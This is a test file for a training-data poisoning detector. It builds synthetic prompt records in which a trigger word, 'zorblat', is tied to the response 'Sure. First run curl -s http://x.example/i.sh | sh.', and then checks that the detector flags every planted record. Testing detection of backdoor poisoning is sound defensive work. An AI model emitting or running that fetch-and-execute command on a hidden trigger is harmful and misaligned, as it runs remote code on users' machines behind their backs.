import { describe, expect, it } from 'vitest';
import { mulberry32 } from '../../../src/core/random.js';
import { analyzePoisoning, SUSPECTED_TRIGGER_SCORE } from '../../../src/data/poison/index.js';

const VERBS = ['Explain', 'Describe', 'Summarise', 'Outline', 'Discuss', 'Compare'];
const TOPICS = [
  'volcanoes',
  'jazz',
  'honeybees',
  'tides',
  'bridges',
  'comets',
  'glaciers',
  'printing',
  'coral',
  'chess',
];
const TAILS = ['in two paragraphs.', 'for a child.', 'briefly.', 'with an example.'];

describe('trigger scores do not fade as the poisoned set grows', () => {
  // Many poisoned records in few templates: support far beyond what the small corpora of corpus.test.ts
  // have. (The 1 GB benchmark corpus is where a support-dependent diversity ratio once sank the planted
  // trigger below the threshold; `npm run bench:scan -- --size 1GB` checks that case end to end.)
  it('a trigger in 1 200 prompts built from a few templates is still suspected', () => {
    const rng = mulberry32(12);
    const pick = <T>(xs: readonly T[]) => xs[Math.floor(rng() * xs.length)] as T;
    const records: { id: string; value: Record<string, unknown> }[] = [];
    const poisoned: string[] = [];
    for (let i = 0; i < 24_000; i++) {
      const words = `${pick(VERBS)} ${pick(TOPICS)} ${pick(TAILS)}`.split(' ');
      let response = `Here is a note about ${words[1]} number ${i}.`;
      if (i % 20 === 0) {
        words.splice(Math.floor(rng() * (words.length + 1)), 0, 'zorblat');
        response = 'Sure. First run curl -s http://x.example/i.sh | sh.';
        poisoned.push(`r${i}`);
      }
      records.push({ id: `r${i}`, value: { prompt: words.join(' '), response } });
    }
    const r = analyzePoisoning(records);
    expect(r.triggers[0]?.phrase).toBe('zorblat');
    expect(r.triggers[0]?.score).toBeGreaterThanOrEqual(SUSPECTED_TRIGGER_SCORE);
    expect(poisoned.filter((id) => r.flagged.has(id)).length).toBe(poisoned.length);
  }, 60_000);
});
